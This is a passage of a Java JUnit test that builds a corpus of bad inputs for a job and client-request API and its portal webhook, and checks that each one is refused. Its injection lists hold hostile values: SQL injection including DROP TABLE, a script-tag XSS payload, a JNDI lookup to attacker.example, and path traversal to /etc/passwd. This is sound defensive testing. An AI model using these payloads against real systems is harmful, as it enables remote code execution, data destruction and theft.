package io.automove.it;

import io.automove.localstack.HttpApi;
import io.automove.localstack.HttpApi.Response;
import io.automove.localstack.HttpEvents;
import io.automove.localstack.Routes;
import io.automove.localstack.Template;
import io.automove.handlers.PortalSignature;
import io.automove.support.Json;
import io.automove.testing.Firm;
import io.automove.testing.ForeignFirm;
import io.automove.testing.Stack;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import software.amazon.awssdk.protocols.jsoncore.JsonNode;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static io.automove.testing.Stack.text;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * A corpus of bad inputs, generated from the routes of template.yaml and from a description of each route's
 * body: malformed and oversized bodies, invalid UTF-8, every field with the wrong type, missing, blank, too long
 * or out of its enum, unknown fields, unknown ids and ids of another firm, injection-style values and key
 * lookalikes wherever an id goes (body, path, query), broken identities, bad Idempotency-Keys, and for the portal
 * webhook forged, stale, future and malformed signatures and replays.
 *
 * <p>Every case must answer a 4xx with a non-empty {@code error.code} (or API Gateway's own 401 for a missing
 * token), never a 5xx and never a 2xx, except the replay of a recorded portal eventId, which the contract
 * answers 200 {@code duplicate}. Nothing may be written: the table is scanned before and after each case, after
 * every pending event has run. An id of another firm must be answered exactly like an unknown id, with no trace
 * of the other firm.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputCorpusTest {
    /** The corpus may grow; it must never silently shrink below this. */
    static final int MINIMUM_CASES = 200;
    /** Each route of the template gets at least this many cases. */
    static final int MINIMUM_CASES_PER_ROUTE = 10;

    static final String WEBHOOK = "POST /webhooks/client-portal";
    static final String GATEWAY_UNAUTHORIZED = "{\"message\":\"Unauthorized\"}";
    static final int OVER_LIMIT = 256 * 1024 + 1;

    /** An id far over the 128-character id limit, and over DynamoDB's key size limits (2048 / 1024 bytes). */
    static final String HUGE_ID = "x".repeat(3000);
    /** Over the 128-character id limit, under DynamoDB's key size limits. */
    static final String LONG_ID = "x".repeat(300);

    /** Values an attacker puts where an id goes. Key lookalikes built from real keys are added in setUp. */
    static final List<String> INJECTIONS = List.of(
            "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE automove; --", "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}", "{{7*7}}", "../../etc/passwd", "..\\..\\windows\\win.ini",
            "FIRM#x#JOB#y", "#", "*", "%00", "\u0000", "line\nbreak", "\u0007\u001b[31mbell", "\u202Eevil\u202C",
            "\u200B", "\uFEFFbom", "\uD800", "{\"$ne\":null}", "null", "undefined", LONG_ID, HUGE_ID);
    /** A smaller set for body ids: the corpus has many of them and the full set is tried on path ids. */
    static final List<String> BODY_INJECTIONS = List.of("' OR 1=1 --", "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}", "../../etc/passwd", "FIRM#x#JOB#y", "\u0007\u001b[31mbell",
            "\u202Eevil\u202C", "\u200B", LONG_ID, HUGE_ID);
    /** Path parameters that are almost nothing, or that try to climb out of their segment. */
    static final List<String> EMPTYISH = List.of(" ", "\t", ".", "..", "/", "a/b", "%2F", "{id}", "\u00A0");
    static final List<Object> NOT_A_STRING = List.of(42, 4.2e300, true, List.of("x"), Map.of("a", "b"));
    static final List<Object> NOT_A_BOOLEAN = List.of("true", 1, List.of(true), Map.of("a", true));
    static final List<Object> NOT_A_LIST = List.of("x", 42, true, Map.of("a", "b"));
    static final List<String> NOT_AN_EMAIL = List.of("nope", "a@b", "a b@c.example", "<script>@x.example",
            "' OR 1=1 --@x.example", "a@b@c.example", "@x.example", "x@.example");
    static final List<String> NOT_A_DATE = List.of("yesterday", "2026-13-45T00:00:00Z", "2026-03-02T09:15:00",
            "2026-03-02", "1700000000", "' OR 1=1 --");
    /** Dates a parser takes that the API refuses: years outside 0001 to 9999 (epoch millis overflow a long). */
    static final List<String> NOT_A_YEAR = List.of("+999999999-12-31T23:59:59Z", "+10000-01-01T00:00:00Z",
            "0000-01-01T00:00:00Z", "-0001-01-01T00:00:00Z");
    /** Where a whole number goes: a string, a fraction, a number written with an exponent, one past int, lists. */
    static final List<Object> NOT_A_WHOLE_NUMBER = List.of("3", 4.5, 1e3, 12_345_678_901L, true, List.of(3), Map.of("n", 3));
    static final List<Object> NOT_AN_OBJECT = List.of("x", 42, true, List.of(Map.of("a", "b")));

    private static final String REMOVE = "<remove>";

    private Stack stack;
    private Firm firm;
    private ForeignFirm zeta;
    private Routes routes;
    private final List<Case> corpus = new ArrayList<>();
    private final List<String> keyLookalikes = new ArrayList<>();
    private final Map<String, String[]> refs = new LinkedHashMap<>(); // kind -> {another firm's id, unknown id}
    private List<String> lastScan;

    // fixtures of the firm the callers belong to
    private String employee;
    private String moveJob;         // in Intake, nothing linked
    private String linkedJob;       // in Intake, linkedRequest linked and pending
    private String linkedRequest;
    private String looseRequest;    // pending, linked to nothing
    private String webhookRequest;  // pending: the target of the webhook's bad bodies
    private String submittedRequest;
    private String submittedBody;   // the portal event that submitted it
    private String cancelledRequest;
    private String otherAccount;    // a second account of the same firm, with its job and request
    private String otherAccountJob;
    private String otherAccountRequest;
    private String patchPipeline, patchFirst, patchLast;
    private String archivedJob;     // archived, nothing linked

    // ------------------------------------------------------------------------------------------------------
    // the routes, as data
    // ------------------------------------------------------------------------------------------------------

    /** {@code INT}: a whole number in a range; {@code OBJECT}: a nested JSON object (OBJECTS: a list of them). */
    enum Type { TEXT, ID, EMAIL, ENUM, BOOL, IDS, OBJECTS, DATETIME, INT, OBJECT }

    /**
     * One field of a body: a path into the base body ("stages[0].automations[0].templateId"), its type and
     * whether it is required. {@code ref} names the kind of thing an id refers to, {@code notFound} the code
     * for an id that names nothing; {@code max} the longest text allowed; {@code empty} the code for an empty list
     * (or object) when one is refused; {@code low} to {@code high} the range of a whole number, {@code outOfRange}
     * the code for one outside it.
     */
    record Field(String path, Type type, boolean required, String ref, String notFound, Integer max, String tooLong,
                 String empty, boolean blankOk, Integer low, Integer high, String outOfRange) {
        static Field text(String path, boolean required, int max) {
            return new Field(path, Type.TEXT, required, null, null, max, "FIELD_TOO_LONG", null, false, null, null, null);
        }
        static Field id(String path, boolean required, String ref, String notFound) {
            return new Field(path, Type.ID, required, ref, notFound, null, null, null, false, null, null, null);
        }
        static Field of(String path, Type type, boolean required) {
            return new Field(path, type, required, null, null, null, null, null, false, null, null, null);
        }
        static Field integer(String path, boolean required, int low, int high, String outOfRange) {
            return new Field(path, Type.INT, required, null, null, null, null, null, false, low, high, outOfRange);
        }
        Field whenEmpty(String code) {
            return new Field(path, type, required, ref, notFound, max, tooLong, code, blankOk, low, high, outOfRange);
        }
        Field whenTooLong(String code) {
            return new Field(path, type, required, ref, notFound, max, code, empty, blankOk, low, high, outOfRange);
        }
        Field allowBlank() {
            return new Field(path, type, required, ref, notFound, max, tooLong, empty, true, low, high, outOfRange);
        }
    }

    /** A path parameter (or the query parameter) that names a thing. */
    record Param(String name, String ref, String notFound, String own) {}

    /** One route of the template, or one form of it (POST /jobs/{jobId}/client-requests takes three bodies). */
    final class Spec {
        final String routeKey;
        final String form;
        final List<Param> params = new ArrayList<>();
        Param query;
        Map<String, Object> base;
        final List<Field> fields = new ArrayList<>();
        boolean idempotencyKey;
        boolean attackParams = true; // false on the second and third form of a route: the path is the same
        boolean bodyOptional;        // the route takes no body, or {}: leaving it out is no bad input
        boolean paged;               // a list: query limit and cursor

        Spec(String routeKey, String form) {
            this.routeKey = routeKey;
            this.form = form;
        }

        String method() { return routeKey.substring(0, routeKey.indexOf(' ')); }
        boolean webhook() { return routeKey.equals(WEBHOOK); }
        String name() { return form == null ? routeKey : routeKey + " (" + form + ")"; }

        Spec param(String name, String ref, String notFound, String own) {
            params.add(new Param(name, ref, notFound, own));
            return this;
        }
        Spec query(String name, String ref, String notFound, String own) {
            query = new Param(name, ref, notFound, own);
            return this;
        }
        Spec body(Map<String, Object> base, Field... fields) {
            this.base = base;
            this.fields.addAll(List.of(fields));
            return this;
        }
        Spec idempotent() {
            idempotencyKey = true;
            return this;
        }
        Spec samePathAsAnotherForm() {
            attackParams = false;
            return this;
        }
        Spec bodyOptional() {
            bodyOptional = true;
            return this;
        }
        Spec paged() {
            paged = true;
            return this;
        }

        /** The path with each parameter at its own value, except {@code name} at {@code value}. */
        String path(String name, String value) {
            String path = routeKey.substring(routeKey.indexOf(' ') + 1);
            for (Param p : params) path = path.replace("{" + p.name() + "}", encode(p.name().equals(name) ? value : p.own()));
            if (query != null) {
                String v = query.name().equals(name) ? value : query.own();
                path += "?" + query.name() + "=" + encode(v);
            }
            return path;
        }
        String path() { return path(null, null); }

        String baseJson() { return Json.write(base); }

        /** Sends a body as the firm's owner (or, for the webhook, signed now). */
        Response send(String path, String body) {
            if (webhook()) return stack.webhook(body, sign(body));
            return http(method(), path, Firm.OWNER, firm.firmId, Map.of(), body);
        }
        Response send(String body) { return send(path(), body); }
        Response sendBase() { return send(path(), base == null ? null : baseJson()); }
    }

    /**
     * One bad input. {@code twin}, when present, sends the same input with an unknown id where this one has
     * another firm's id: the two answers must be the same. {@code codes}: the acceptable error codes (any when
     * null). {@code duplicate}: the contract accepts the input and answers 200 duplicate, changing nothing.
     */
    record Case(String route, String category, String label, Supplier<Response> call, Supplier<Response> twin,
                String otherId, String unknownId, Set<String> codes, boolean duplicate) {
        @Override public String toString() { return route + " | " + category + ": " + label; }
    }

    private void add(Spec s, String category, String label, Supplier<Response> call, Set<String> codes) {
        corpus.add(new Case(s.routeKey, category, printable(label), call, null, null, null, codes, false));
    }

    private void addTwin(Spec s, String category, String label, String otherId, String unknownId,
                         java.util.function.Function<String, Response> callWith, Set<String> codes) {
        corpus.add(new Case(s.routeKey, category, printable(label), () -> callWith.apply(otherId),
                () -> callWith.apply(unknownId), otherId, unknownId, codes, false));
    }

    private void addDuplicate(Spec s, String label, Supplier<Response> call) {
        corpus.add(new Case(s.routeKey, "replayed eventId", label, call, null, null, null, null, true));
    }

    /** {@code reminders} at {@code at}: an object of two whole numbers, both required. */
    private static List<Field> reminders(String at) {
        return List.of(Field.of(at, Type.OBJECT, false).whenEmpty("MISSING_FIELD"),
                Field.integer(at + ".everyDays", true, 1, 30, "INVALID_REMINDERS"),
                Field.integer(at + ".times", true, 0, 10, "INVALID_REMINDERS"));
    }

    private static Field dueInDays(String at) { return Field.integer(at, false, 1, 365, "INVALID_DUE_DATE"); }

    /** A stage automation's settings at {@code at} ("stages[0].automations[0]"): reminders, due date, conditions. */
    private static Field[] automationSettings(String at, Field... before) {
        List<Field> fields = new ArrayList<>(List.of(before));
        fields.addAll(reminders(at + ".reminders"));
        fields.add(dueInDays(at + ".dueInDays"));
        fields.add(Field.of(at + ".conditions", Type.OBJECT, false));
        fields.add(Field.of(at + ".conditions.accountTags", Type.IDS, false));
        fields.add(Field.text(at + ".conditions.accountTags[0]", true, 50));
        return fields.toArray(Field[]::new);
    }

    private static Field[] fields(List<Field> first, Field... more) {
        List<Field> all = new ArrayList<>(first);
        all.addAll(List.of(more));
        return all.toArray(Field[]::new);
    }

    /** A due date a month ahead: valid whenever the corpus runs. */
    private static String aheadOfNow() { return Instant.now().plus(java.time.Duration.ofDays(30)).toString(); }

    private List<Spec> specs() {
        String review = firm.review;
        Map<String, Object> settings = obj("everyDays", 3, "times", 2);
        List<Spec> specs = new ArrayList<>();
        specs.add(new Spec("POST /firms", null).idempotent()
                .body(obj("name", "Corpus firm"), Field.text("name", true, 200)));
        specs.add(new Spec("POST /members", null)
                .body(obj("userId", "corpus-new-member", "role", "EMPLOYEE", "rights", list("VIEW_ALL_ACCOUNTS")),
                        new Field("userId", Type.ID, true, null, "INVALID_ID", null, null, null, false, null, null, null),
                        Field.of("role", Type.ENUM, true), Field.of("rights", Type.IDS, false),
                        Field.of("rights[0]", Type.ENUM, true)));
        specs.add(new Spec("POST /accounts", null).idempotent()
                .body(obj("name", "Corpus account", "contacts", list(obj("name", "C", "email", "c@corpus.example")),
                                "teamMemberIds", list(employee), "tags", list("vip")),
                        Field.text("name", true, 200), Field.of("contacts", Type.OBJECTS, true).whenEmpty("NO_CONTACTS"),
                        Field.text("contacts[0].name", true, 200), Field.of("contacts[0].email", Type.EMAIL, true),
                        Field.of("teamMemberIds", Type.IDS, false),
                        Field.id("teamMemberIds[0]", true, "member", "UNKNOWN_MEMBER"),
                        Field.of("tags", Type.IDS, false), Field.text("tags[0]", true, 50)));
        specs.add(new Spec("POST /request-templates", null).idempotent()
                .body(obj("name", "Corpus template", "subject", "S", "message", "M",
                                "items", list(obj("kind", "QUESTION", "label", "L", "required", true)),
                                "reminders", settings, "dueInDays", 14),
                        fields(reminders("reminders"), Field.text("name", true, 200), Field.text("subject", true, 200),
                                Field.text("message", true, 5000), Field.of("items", Type.OBJECTS, true),
                                Field.of("items[0].kind", Type.ENUM, true), Field.text("items[0].label", true, 300),
                                Field.of("items[0].required", Type.BOOL, false), dueInDays("dueInDays"))));
        specs.add(new Spec("POST /pipelines", null).idempotent()
                .body(obj("name", "Corpus pipeline", "stages", list(
                                obj("name", "First", "automove", false, "automations",
                                        list(obj("type", "SEND_CLIENT_REQUEST", "templateId", firm.templateId,
                                                "reminders", settings, "dueInDays", 7,
                                                "conditions", obj("accountTags", list("vip"))))),
                                obj("name", "Last"))),
                        automationSettings("stages[0].automations[0]",
                                Field.text("name", true, 200), Field.of("stages", Type.OBJECTS, true).whenEmpty("NO_STAGES"),
                                Field.text("stages[0].name", true, 200), Field.of("stages[0].automove", Type.BOOL, false),
                                Field.of("stages[0].automations", Type.OBJECTS, false),
                                Field.of("stages[0].automations[0].type", Type.ENUM, true),
                                Field.id("stages[0].automations[0].templateId", true, "template", "UNKNOWN_TEMPLATE"))));
        specs.add(new Spec("GET /members", null).paged());
        specs.add(new Spec("PATCH /members/{userId}", null)
                .param("userId", "member", "MEMBER_NOT_FOUND", employee)
                .body(obj("role", "EMPLOYEE", "rights", list("VIEW_ALL_ACCOUNTS")),
                        Field.of("role", Type.ENUM, false), Field.of("rights", Type.IDS, false),
                        Field.of("rights[0]", Type.ENUM, true)));
        specs.add(new Spec("DELETE /members/{userId}", null).bodyOptional()
                .param("userId", "member", "MEMBER_NOT_FOUND", employee).body(obj()));
        specs.add(new Spec("GET /accounts", null).paged());
        specs.add(new Spec("GET /accounts/{accountId}", null).paged()
                .param("accountId", "account", "ACCOUNT_NOT_FOUND", firm.accountId));
        specs.add(new Spec("PATCH /accounts/{accountId}", null)
                .param("accountId", "account", "ACCOUNT_NOT_FOUND", otherAccount)
                .body(obj("name", "Corpus account", "contacts", list(obj("name", "C", "email", "c@corpus.example")),
                                "teamMemberIds", list(employee), "tags", list("vip")),
                        Field.text("name", false, 200), Field.of("contacts", Type.OBJECTS, false).whenEmpty("NO_CONTACTS"),
                        Field.text("contacts[0].name", true, 200), Field.of("contacts[0].email", Type.EMAIL, true),
                        Field.of("teamMemberIds", Type.IDS, false),
                        Field.id("teamMemberIds[0]", true, "member", "UNKNOWN_MEMBER"),
                        Field.of("tags", Type.IDS, false), Field.text("tags[0]", true, 50)));
        specs.add(new Spec("GET /accounts/{accountId}/jobs", null).paged()
                .param("accountId", "account", "ACCOUNT_NOT_FOUND", firm.accountId));
        specs.add(new Spec("GET /pipelines", null).paged());
        specs.add(new Spec("GET /request-templates", null).paged());
        specs.add(new Spec("GET /request-templates/{templateId}", null)
                .param("templateId", "template", "REQUEST_TEMPLATE_NOT_FOUND", firm.templateId));
        specs.add(new Spec("GET /pipelines/{pipelineId}", null)
                .param("pipelineId", "pipeline", "PIPELINE_NOT_FOUND", firm.pipelineId));
        specs.add(new Spec("PATCH /pipelines/{pipelineId}/stages/{stageId}", null)
                .param("pipelineId", "pipeline", "PIPELINE_NOT_FOUND", patchPipeline)
                .param("stageId", "stage", "STAGE_NOT_FOUND", patchFirst)
                .body(obj("name", "Renamed", "automove", false,
                                "automations", list(obj("type", "SEND_CLIENT_REQUEST", "templateId", firm.templateId,
                                        "reminders", settings, "dueInDays", 7, "conditions", obj("accountTags", list("vip"))))),
                        automationSettings("automations[0]",
                                Field.text("name", false, 200), Field.of("automove", Type.BOOL, false),
                                Field.of("automations", Type.OBJECTS, false), Field.of("automations[0].type", Type.ENUM, true),
                                Field.id("automations[0].templateId", true, "template", "UNKNOWN_TEMPLATE"))));
        specs.add(new Spec("GET /pipelines/{pipelineId}/jobs", null)
                .param("pipelineId", "pipeline", "PIPELINE_NOT_FOUND", firm.pipelineId));
        specs.add(new Spec("POST /jobs", null).idempotent()
                .body(obj("accountId", firm.accountId, "pipelineId", firm.pipelineId, "title", "Corpus job",
                                "stageId", firm.intake),
                        Field.id("accountId", true, "account", "ACCOUNT_NOT_FOUND"),
                        Field.id("pipelineId", true, "pipeline", "UNKNOWN_PIPELINE"), Field.text("title", true, 300),
                        Field.id("stageId", false, "stage", "UNKNOWN_STAGE")));
        specs.add(new Spec("POST /jobs/{jobId}/move", null)
                .param("jobId", "job", "JOB_NOT_FOUND", moveJob)
                .body(obj("toStageId", review, "unfinishedRequests", "KEEP"),
                        Field.id("toStageId", true, "stage", "UNKNOWN_STAGE"),
                        Field.of("unfinishedRequests", Type.ENUM, false)));
        specs.add(new Spec("POST /jobs/{jobId}/archive", null).bodyOptional()
                .param("jobId", "job", "JOB_NOT_FOUND", moveJob).body(obj()));
        specs.add(new Spec("POST /jobs/{jobId}/unarchive", null).bodyOptional()
                .param("jobId", "job", "JOB_NOT_FOUND", archivedJob).body(obj()));
        specs.add(new Spec("GET /jobs/{jobId}", null).param("jobId", "job", "JOB_NOT_FOUND", moveJob));
        specs.add(new Spec("GET /client-requests/{requestId}", null)
                .param("requestId", "request", "CLIENT_REQUEST_NOT_FOUND", looseRequest));
        specs.add(new Spec("GET /jobs/{jobId}/activity", null).paged().param("jobId", "job", "JOB_NOT_FOUND", moveJob));
        specs.add(new Spec("GET /client-requests/{requestId}/activity", null).paged()
                .param("requestId", "request", "CLIENT_REQUEST_NOT_FOUND", looseRequest));
        specs.add(new Spec("GET /activity", null).paged());
        specs.add(new Spec("PATCH /client-requests/{requestId}", null)
                .param("requestId", "request", "CLIENT_REQUEST_NOT_FOUND", looseRequest)
                .body(obj("reminders", settings, "dueAt", aheadOfNow()),
                        fields(reminders("reminders"), Field.of("dueAt", Type.DATETIME, false))));
        specs.add(new Spec("POST /client-requests/{requestId}/resend", null).bodyOptional()
                .param("requestId", "request", "CLIENT_REQUEST_NOT_FOUND", looseRequest).body(obj()));
        // a pending request: a body that got through would be refused by its state, and change nothing
        specs.add(new Spec("POST /client-requests/{requestId}/reopen", null).bodyOptional()
                .param("requestId", "request", "CLIENT_REQUEST_NOT_FOUND", looseRequest)
                .body(obj("message", "Please add the second account."), Field.text("message", false, 5000)));
        specs.add(new Spec("POST /jobs/{jobId}/client-requests", "link")
                .param("jobId", "job", "JOB_NOT_FOUND", moveJob)
                .body(obj("requestId", looseRequest), Field.id("requestId", true, "request", "CLIENT_REQUEST_NOT_FOUND")));
        specs.add(new Spec("POST /jobs/{jobId}/client-requests", "from a template").idempotent().samePathAsAnotherForm()
                .param("jobId", "job", "JOB_NOT_FOUND", moveJob)
                .body(obj("templateId", firm.templateId, "reminders", settings, "dueInDays", 14),
                        fields(reminders("reminders"), Field.id("templateId", true, "template", "UNKNOWN_TEMPLATE"),
                                dueInDays("dueInDays"))));
        specs.add(new Spec("POST /jobs/{jobId}/client-requests", "written").idempotent().samePathAsAnotherForm()
                .param("jobId", "job", "JOB_NOT_FOUND", moveJob)
                .body(obj("title", "Corpus request", "message", "M", "items", list(obj("kind", "FILE_UPLOAD", "label", "L")),
                                "dueAt", aheadOfNow()),
                        Field.text("title", true, 200), Field.text("message", true, 5000), Field.of("items", Type.OBJECTS, true),
                        Field.of("items[0].kind", Type.ENUM, true), Field.text("items[0].label", true, 300),
                        Field.of("items[0].required", Type.BOOL, false), Field.of("dueAt", Type.DATETIME, false)));
        specs.add(new Spec("DELETE /jobs/{jobId}/client-requests/{requestId}", null)
                .param("jobId", "job", "JOB_NOT_FOUND", linkedJob)
                .param("requestId", "request", "CLIENT_REQUEST_NOT_FOUND", linkedRequest));
        specs.add(new Spec("POST /client-requests", "from a template").idempotent()
                .body(obj("accountId", firm.accountId, "templateId", firm.templateId, "jobIds", list(moveJob),
                                "reminders", settings, "dueInDays", 14),
                        fields(reminders("reminders"), Field.id("accountId", true, "account", "ACCOUNT_NOT_FOUND"),
                                Field.id("templateId", true, "template", "UNKNOWN_TEMPLATE"), Field.of("jobIds", Type.IDS, false),
                                Field.id("jobIds[0]", true, "job", "JOB_NOT_FOUND"), dueInDays("dueInDays"))));
        specs.add(new Spec("POST /client-requests", "written").idempotent()
                .body(obj("accountId", firm.accountId, "title", "Corpus request", "message", "M",
                                "items", list(obj("kind", "QUESTION", "label", "L", "required", false)), "jobIds", list(),
                                "reminders", settings, "dueAt", aheadOfNow()),
                        fields(reminders("reminders"), Field.id("accountId", true, "account", "ACCOUNT_NOT_FOUND"),
                                Field.text("title", true, 200), Field.text("message", true, 5000),
                                Field.of("items", Type.OBJECTS, true), Field.of("items[0].kind", Type.ENUM, true),
                                Field.text("items[0].label", true, 300), Field.of("items[0].required", Type.BOOL, false),
                                Field.of("dueAt", Type.DATETIME, false))));
        specs.add(new Spec("GET /client-requests", null)
                .query("accountId", "account", "ACCOUNT_NOT_FOUND", firm.accountId));
        specs.add(new Spec("PUT /client-requests/{requestId}/jobs", null)
                .param("requestId", "request", "CLIENT_REQUEST_NOT_FOUND", looseRequest)
                .body(obj("jobIds", list(moveJob)), Field.of("jobIds", Type.IDS, true),
                        Field.id("jobIds[0]", true, "job", "JOB_NOT_FOUND")));
        specs.add(new Spec(WEBHOOK, null)
                .body(submission("evt-corpus", firm.firmId, webhookRequest, "Bank statements", "statements.pdf"),
                        Field.text("eventId", true, 200).whenTooLong("INVALID_FIELD"), Field.of("type", Type.ENUM, true),
                        Field.id("firmId", true, "firm", "REQUEST_NOT_FOUND"),
                        Field.id("requestId", true, "request", "REQUEST_NOT_FOUND"),
                        Field.of("submittedAt", Type.DATETIME, true), Field.of("answers", Type.OBJECTS, true),
                        Field.text("answers[0].label", true, 300), Field.text("answers[0].value", true, 10_000).allowBlank()));
        return specs;
    }

    // ------------------------------------------------------------------------------------------------------
    // the generator
    // ------------------------------------------------------------------------------------------------------

    private void generate(Spec s) {
        if (s.base != null) {
            malformed(s);
            oversized(s);
            binary(s);
            for (Field f : s.fields) field(s, f);
            if (!s.webhook()) unknownFields(s);
            if (s.idempotencyKey) idempotencyKeys(s);
        }
        if (s.attackParams) {
            for (Param p : s.params) parameter(s, p, "path parameter");
            if (s.query != null) query(s);
        }
        if (s.paged) pages(s);
        if (s.webhook()) {
            signatures(s);
        } else if (s.attackParams) {
            identities(s);
        }
    }

    private void malformed(Spec s) {
        String json = s.baseJson();
        // a body of no fields ({}) still gets a key where a broken value goes
        String firstKey = s.base.isEmpty() ? "n" : json.substring(2, json.indexOf('"', 2));
        Set<String> missing = Set.of("MISSING_BODY");
        Set<String> syntax = Set.of("INVALID_JSON");
        Set<String> notAnObject = Set.of("INVALID_FIELD");
        Map<String, Object[]> bodies = new LinkedHashMap<>();
        bodies.put("no body at all", new Object[] {null, missing});
        bodies.put("empty", new Object[] {"", missing});
        bodies.put("blank", new Object[] {" \n\t ", missing});
        bodies.put("truncated in half", new Object[] {json.substring(0, json.length() / 2), syntax});
        bodies.put("missing the closing brace", new Object[] {json.substring(0, json.length() - 1), syntax});
        bodies.put("trailing garbage", new Object[] {json + "x", syntax});
        bodies.put("a second value after it", new Object[] {json + json, syntax});
        bodies.put("trailing comma", new Object[] {json.substring(0, json.length() - 1) + ",}", syntax});
        bodies.put("a missing value", new Object[] {"{\"" + firstKey + "\":,}", syntax});
        bodies.put("single quotes", new Object[] {json.replace('"', '\''), syntax});
        bodies.put("unquoted names", new Object[] {json.replace("\"" + firstKey + "\":", firstKey + ":"), syntax});
        bodies.put("a /* comment */", new Object[] {"/* hi */" + json, syntax});
        bodies.put("a // comment", new Object[] {"// hi\n" + json, syntax});
        bodies.put("a # comment", new Object[] {"# hi\n" + json, syntax});
        bodies.put("a number with leading zeros", new Object[] {"{\"n\":007," + json.substring(1), syntax});
        bodies.put("NaN", new Object[] {"{\"n\":NaN," + json.substring(1), syntax});
        bodies.put("an unescaped control character in a string", new Object[] {"{\"n\":\"a\u0001b\"," + json.substring(1), syntax});
        bodies.put("an invalid escape", new Object[] {"{\"n\":\"a\\qb\"," + json.substring(1), syntax});
        bodies.put("a NUL byte", new Object[] {"\u0000", syntax});
        bodies.put("a lone surrogate", new Object[] {"{\"" + "\uD800" + "\":", syntax});
        bodies.put("nested 100,000 deep", new Object[] {"{\"" + firstKey + "\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}",
                Set.of("INVALID_JSON", "INVALID_FIELD")});
        bodies.put("top level is an array", new Object[] {"[" + json + "]", notAnObject});
        bodies.put("top level is a string", new Object[] {"\"" + json.replace("\"", "\\\"") + "\"", notAnObject});
        bodies.put("top level is a number", new Object[] {"42", notAnObject});
        bodies.put("top level is true", new Object[] {"true", notAnObject});
        bodies.put("top level is null", new Object[] {"null", notAnObject});
        for (var e : bodies.entrySet()) {
            String body = (String) e.getValue()[0];
            @SuppressWarnings("unchecked")
            Set<String> codes = (Set<String>) e.getValue()[1];
            // where the body is optional, none is no bad input; nor is a mutation that leaves {} as it was
            if (s.bodyOptional && (codes == missing || json.equals(body))) continue;
            add(s, "malformed JSON", e.getKey(), () -> s.send(body), codes);
        }
    }

    private void oversized(Spec s) {
        Map<String, Object> padded = with(s.base, "padding", "x".repeat(OVER_LIMIT));
        add(s, "oversized body", "257 KB of ASCII", () -> s.send(Json.write(padded)), Set.of("BODY_TOO_LARGE"));
        // 140,000 two-byte characters: under the limit in characters, over it in bytes
        Map<String, Object> wide = with(s.base, "padding", "\u00e9".repeat(140_000));
        add(s, "oversized body", "280 KB of two-byte UTF-8", () -> s.send(Json.write(wide)), Set.of("BODY_TOO_LARGE"));
        String huge = "[" + "1,".repeat(OVER_LIMIT / 2) + "1]";
        add(s, "oversized body", "257 KB that is not even JSON", () -> s.send(huge), Set.of("BODY_TOO_LARGE"));
    }

    /** API Gateway hands binary bodies over base64-encoded: invalid UTF-8 can only get in that way. */
    private void binary(Spec s) {
        // a body that was sent but cannot be read is refused as such, never taken for no body
        Set<String> notUtf8 = Set.of("INVALID_ENCODING");
        byte[] invalidUtf8 = {(byte) 0xff, (byte) 0xfe, '{', '"', (byte) 0xc3, 0x28, '"', ':', (byte) 0xa0, (byte) 0xa1, '}'};
        add(s, "binary body", "invalid UTF-8, base64-encoded", () -> base64(s, Base64.getEncoder().encodeToString(invalidUtf8)),
                notUtf8);
        byte[] utf16 = s.baseJson().getBytes(StandardCharsets.UTF_16);
        add(s, "binary body", "the JSON in UTF-16", () -> base64(s, Base64.getEncoder().encodeToString(utf16)), notUtf8);
        add(s, "binary body", "flagged base64 but is not", () -> base64(s, "%%%not base64%%%"), notUtf8);
    }

    private void field(Spec s, Field f) {
        Set<String> invalid = Set.of("INVALID_FIELD");
        Set<String> missing = Set.of("MISSING_FIELD", "TEMPLATE_OR_CONTENT");
        List<Object> wrong = switch (f.type()) {
            case TEXT, ID, EMAIL, ENUM, DATETIME -> NOT_A_STRING;
            case BOOL -> NOT_A_BOOLEAN;
            case IDS -> concat(NOT_A_LIST, List.of(list(42), list((Object) null), list(list()), list(obj("a", "b"))));
            case OBJECTS -> concat(NOT_A_LIST, List.of(list("x"), list(42), list((Object) null), list(list())));
            case INT -> NOT_A_WHOLE_NUMBER;
            case OBJECT -> NOT_AN_OBJECT;
        };
        for (Object w : wrong) bodyCase(s, "wrong type", f.path() + " = " + Json.write(w), with(s.base, f.path(), w), invalid);
        if (f.type() == Type.IDS || f.type() == Type.OBJECTS) {
            List<Object> many = new ArrayList<>();
            for (int i = 0; i < 1001; i++) many.add(f.type() == Type.IDS ? "id-" + i : obj());
            bodyCase(s, "wrong type", f.path() + " with 1001 entries", with(s.base, f.path(), many), invalid);
        }
        boolean element = f.path().endsWith("]"); // an entry of a list: leaving it out leaves a valid, shorter list
        if (element) {
            bodyCase(s, "wrong type", f.path() + " = null", with(s.base, f.path(), null), invalid);
        } else if (f.required()) {
            bodyCase(s, "missing field", f.path() + " left out", with(s.base, f.path(), REMOVE), missing);
            bodyCase(s, "missing field", f.path() + " = null", with(s.base, f.path(), null), missing);
        }
        boolean string = f.type() == Type.TEXT || f.type() == Type.ID || f.type() == Type.EMAIL || f.type() == Type.DATETIME;
        if (string && !f.blankOk()) {
            // an optional blank id, or a blank entry of a list of ids, is simply an id that names nothing
            Set<String> blank = !f.required() || element ? null
                    : f.type() == Type.ID ? Set.of("MISSING_FIELD", "TEMPLATE_OR_CONTENT", f.notFound()) : missing;
            bodyCase(s, "missing field", f.path() + " = \"\"", with(s.base, f.path(), ""), blank);
            bodyCase(s, "missing field", f.path() + " blank", with(s.base, f.path(), " \t\n "), blank);
        }
        if (f.max() != null) {
            bodyCase(s, "too long", f.path() + " of " + (f.max() + 1) + " characters",
                    with(s.base, f.path(), "x".repeat(f.max() + 1)), Set.of(f.tooLong()));
        }
        if (f.empty() != null) {
            boolean object = f.type() == Type.OBJECT;
